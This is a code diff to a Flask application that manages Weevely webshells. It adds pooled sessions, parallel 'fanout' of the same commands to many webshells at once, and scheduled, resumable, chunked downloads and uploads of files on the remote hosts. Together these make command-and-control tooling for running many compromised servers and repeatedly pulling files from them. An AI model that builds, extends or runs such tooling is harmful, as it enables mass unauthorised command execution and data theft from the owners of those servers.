@@ -6,9 +6,11 @@ import time
 import json
 import re
 import logging
-from typing import Dict, List, Optional, Any, Union
+from typing import Callable, Dict, List, Optional, Any, Union
 from flask import current_app, has_app_context
 from pathlib import Path
+from apps.weevely.session_pool import get_session_pool
+from apps.weevely.batch_engine import BatchEngine, build_tasks
 
 class WeevelyPayloadGenerator:
     """Simple Weevely Payload Generator"""
@@ -143,11 +145,13 @@ class WeevelyModuleExecutor:
         'curl'
     ]
     
-    def __init__(self, weevely_path: Optional[str] = None):
+    def __init__(self, weevely_path: Optional[str] = None, use_pool: bool = True):
         """Initialize module executor
         
         Args:
             weevely_path: Custom path to weevely.py (optional)
+            use_pool: Run commands through the persistent session pool
+                      instead of one weevely subprocess per command
         """
         if weevely_path:
             # Use provided absolute/relative path as-is
@@ -164,6 +168,27 @@ class WeevelyModuleExecutor:
         # Verify weevely exists
         if not os.path.exists(self.weevely_path):
             raise FileNotFoundError(f"Weevely not found at: {self.weevely_path}")
+
+        # Shared pool of long-lived weevely workers keyed by (url, password)
+        self.session_pool = get_session_pool(self.weevely_path) if use_pool else None
+
+    def _run_weevely(self, url: str, password: str, module_command: str, timeout: int) -> subprocess.CompletedProcess:
+        """Run one module command via the session pool, or a one-shot subprocess"""
+        if self.session_pool:
+            return self.session_pool.execute(url, password, module_command, timeout)
+
+        cmd = [
+            'python3', self.weevely_path, 'terminal',
+            url, password, module_command
+        ]
+        return subprocess.run(
+            cmd,
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+            cwd=os.path.dirname(self.weevely_path),
+            env=os.environ.copy()  # Preserve environment
+        )
     
     def test_connection(self, url: str, password: str, timeout: int = 10) -> Dict:
         """
@@ -253,23 +278,10 @@ class WeevelyModuleExecutor:
                         'module_command': module_command
                     }
                 
-                # Build command
-                cmd = [
-                    'python3', self.weevely_path, 'terminal',
-                    url, password, module_command
-                ]
-                
                 self.logger.info(f"Executing module (attempt {attempt + 1}): {module_command}")
                 
                 start_time = time.time()
-                result = subprocess.run(
-                    cmd,
-                    capture_output=True,
-                    text=True,
-                    timeout=timeout,
-                    cwd=os.path.dirname(self.weevely_path),
-                    env=os.environ.copy()  # Preserve environment
-                )
+                result = self._run_weevely(url, password, module_command, timeout)
                 execution_time = time.time() - start_time
                 # Clean outputs for consistent downstream use
                 cleaned_stdout = self._clean_file_content(result.stdout or "")
@@ -432,49 +444,77 @@ class WeevelyModuleExecutor:
     def batch_execute(self, 
                      url: str, 
                      password: str, 
-                     commands: List[str],
-                     delay: float = 0.5) -> Dict:
+                     commands: List[Union[str, Dict]],
+                     delay: float = 0.5,
+                     max_workers: Optional[int] = None,
+                     timeout: int = 60,
+                     on_result: Optional[Callable[[Dict], None]] = None) -> Dict:
         """
         Execute multiple commands in batch
         
+        Mặc định các command chạy lần lượt theo thứ tự (vd: `:file_cd x` rồi
+        `:file_ls`); chỉ chạy song song khi caller truyền max_workers hoặc
+        khai báo depends_on.
+        
         Args:
             url: URL của webshell
             password: Password
-            commands: List of commands to execute
-            delay: Delay between commands in seconds
+            commands: List of commands, hoặc dict {'id', 'command', 'depends_on'}
+                      để khai báo thứ tự phụ thuộc giữa các command
+            delay: Khoảng chờ giữa hai command trên webshell (0 = không chờ)
+            max_workers: Số command song song tối đa (mặc định chạy tuần tự)
+            timeout: Timeout mỗi command
+            on_result: Callback nhận kết quả từng command ngay khi xong
             
         Returns:
             Dict containing batch results
         """
-        results = []
-        start_time = time.time()
+        concurrent = bool(max_workers) or any(
+            isinstance(cmd, dict) and cmd.get('depends_on') for cmd in commands
+        )
+        if concurrent:
+            per_target_limit = self.session_pool.max_workers_per_key if self.session_pool else 1
+            max_workers = max_workers or per_target_limit
+        else:
+            per_target_limit = max_workers = 1
+        engine = BatchEngine(
+            self,
+            max_workers=max_workers,
+            per_target_limit=per_target_limit,
+            delay=delay,
+            on_result=on_result
+        )
+        self.logger.info(f"Executing batch of {len(commands)} commands on {url}")
+        return engine.run(build_tasks([{'url': url, 'password': password}], commands, timeout))
+
+    def fanout_execute(self,
+                       targets: List[Dict],
+                       commands: List[Union[str, Dict]],
+                       max_workers: int = 32,
+                       timeout: int = 60,
+                       on_result: Optional[Callable[[Dict], None]] = None) -> Dict:
+        """
+        Execute the same commands on many webshells with a global concurrency cap
         
-        for i, cmd in enumerate(commands):
-            self.logger.info(f"Executing batch command {i+1}/{len(commands)}: {cmd}")
-            
-            result = self.execute_module(url, password, cmd)
-            results.append({
-                'command_index': i,
-                'command': cmd,
-                'result': result
-            })
+        Args:
+            targets: List dict {'url', 'password', 'target'} (target = connection_id)
+            commands: Như batch_execute
+            max_workers: Tổng số command song song trên tất cả webshell
+            timeout: Timeout mỗi command
+            on_result: Callback nhận kết quả từng command ngay khi xong
             
-            # Add delay between commands (except for last one)
-            if i < len(commands) - 1 and delay > 0:
-                time.sleep(delay)
-        
-        total_time = time.time() - start_time
-        successful_commands = sum(1 for r in results if r['result']['success'])
-        
-        return {
-            'success': True,
-            'total_commands': len(commands),
-            'successful_commands': successful_commands,
-            'failed_commands': len(commands) - successful_commands,
-            'total_execution_time': total_time,
-            'results': results,
-            'executed_at': time.time()
-        }
+        Returns:
+            Dict containing batch results, mỗi result có thêm 'target'
+        """
+        per_target_limit = self.session_pool.max_workers_per_key if self.session_pool else 1
+        engine = BatchEngine(
+            self,
+            max_workers=max_workers,
+            per_target_limit=per_target_limit,
+            on_result=on_result
+        )
+        self.logger.info(f"Fanning out {len(commands)} commands to {len(targets)} webshells")
+        return engine.run(build_tasks(targets, commands, timeout))
     
     def _analyze_file_content(self, content: str) -> Dict:
         """Analyze file content and return metadata"""
@@ -828,18 +868,32 @@ class CronWeevelyRunner:
         os.makedirs(path, exist_ok=True)
         return path
 
+    # Scheduled transfers default to the chunked mode: ranges are hash checked and
+    # a sidecar manifest lets the next run resume an interrupted transfer
+    DOWNLOAD_CHUNK_SIZE = 1024 * 1024
+    UPLOAD_CHUNK_SIZE = 512 * 1024
+    DOWNLOAD_PARALLEL = 4
+    DOWNLOAD_TIMEOUT = 600
+
     @staticmethod
     def _build_download_command(job_params: dict) -> str:
-        # Expect remote path and optional vector
+        # Expect remote path and optional vector; a job with a vector keeps
+        # the one-shot download, without one (or 'chunked') it is resumable
         remote_path = job_params.get('remote_path') or job_params.get('target_path')
         vector = job_params.get('vector')
         if not remote_path:
             raise ValueError('No remote path specified for download job')
         import os
         local_path = os.path.join(CronWeevelyRunner._download_folder(), os.path.basename(remote_path))
-        if vector:
+        if vector and vector != 'chunked':
             return f":file_download -vector {vector} {remote_path} {local_path}", local_path, remote_path
-        return f":file_download {remote_path} {local_path}", local_path, remote_path
+        chunk_size = int(job_params.get('chunk_size') or CronWeevelyRunner.DOWNLOAD_CHUNK_SIZE)
+        parallel = int(job_params.get('parallel') or CronWeevelyRunner.DOWNLOAD_PARALLEL)
+        command = (
+            f":file_download -chunked -chunk-size {chunk_size} -parallel {parallel} "
+            f"{remote_path} {local_path}"
+        )
+        return command, local_path, remote_path
 
     @staticmethod
     def _log_data_file(local_path: str, remote_path: str, connection_id: str) -> int:
@@ -906,6 +960,26 @@ class CronWeevelyRunner:
             db.session.rollback()
             return 0
 
+    @staticmethod
+    def _build_upload_command(job_params: dict) -> str:
+        # An existing target is only overwritten when the job sets `force`
+        # (a partial upload of this job still resumes from its manifest).
+        # A job with a `vector` keeps the one-shot upload through it.
+        source_path = job_params.get('source_path')
+        target_path = job_params.get('target_path')
+        if not source_path or not target_path:
+            raise ValueError('Source and target paths required for upload job')
+        force = ' -force' if str(job_params.get('force', '')).lower() in ('1', 'true', 'yes', 'on') else ''
+        vector = job_params.get('vector')
+        if vector and vector != 'chunked':
+            return f":file_upload -vector {vector}{force} {source_path} {target_path}"
+        chunk_size = int(job_params.get('chunk_size') or CronWeevelyRunner.UPLOAD_CHUNK_SIZE)
+        parallel = int(job_params.get('parallel') or CronWeevelyRunner.DOWNLOAD_PARALLEL)
+        return (
+            f":file_upload -chunked{force} -chunk-size {chunk_size} -parallel {parallel} "
+            f"{source_path} {target_path}"
+        )
+
     @staticmethod
     def run_cron_job(job_id: int) -> dict:
         from apps.models import CronJob, ShellConnection
@@ -941,15 +1015,10 @@ class CronWeevelyRunner:
         elif cron_job.job_type == 'download':
             module_command, local_path, remote_path = CronWeevelyRunner._build_download_command(params)
         elif cron_job.job_type == 'upload':
-            source_path = params.get('source_path')
-            target_path = params.get('target_path')
-            vector = params.get('vector')
-            if not source_path or not target_path:
-                return {'success': False, 'error': 'Source and target paths required for upload job'}
-            if vector:
-                module_command = f":file_upload -vector {vector} {source_path} {target_path}"
-            else:
-                module_command = f":file_upload {source_path} {target_path}"
+            try:
+                module_command = CronWeevelyRunner._build_upload_command(params)
+            except ValueError as e:
+                return {'success': False, 'error': str(e)}
         elif cron_job.job_type == 'file_operation':
             operation = params.get('operation')
             source = params.get('source')
@@ -971,7 +1040,8 @@ class CronWeevelyRunner:
             return {'success': False, 'error': 'Invalid or missing module command'}
 
         # Execute via executor
-        result = executor.execute_module(weevely_conn.url, weevely_conn.password, module_command)
+        timeout = CronWeevelyRunner.DOWNLOAD_TIMEOUT if cron_job.job_type in ('download', 'upload') else 60
+        result = executor.execute_module(weevely_conn.url, weevely_conn.password, module_command, timeout)
 
         # On successful download, log to DB
         if result.get('success') and local_path: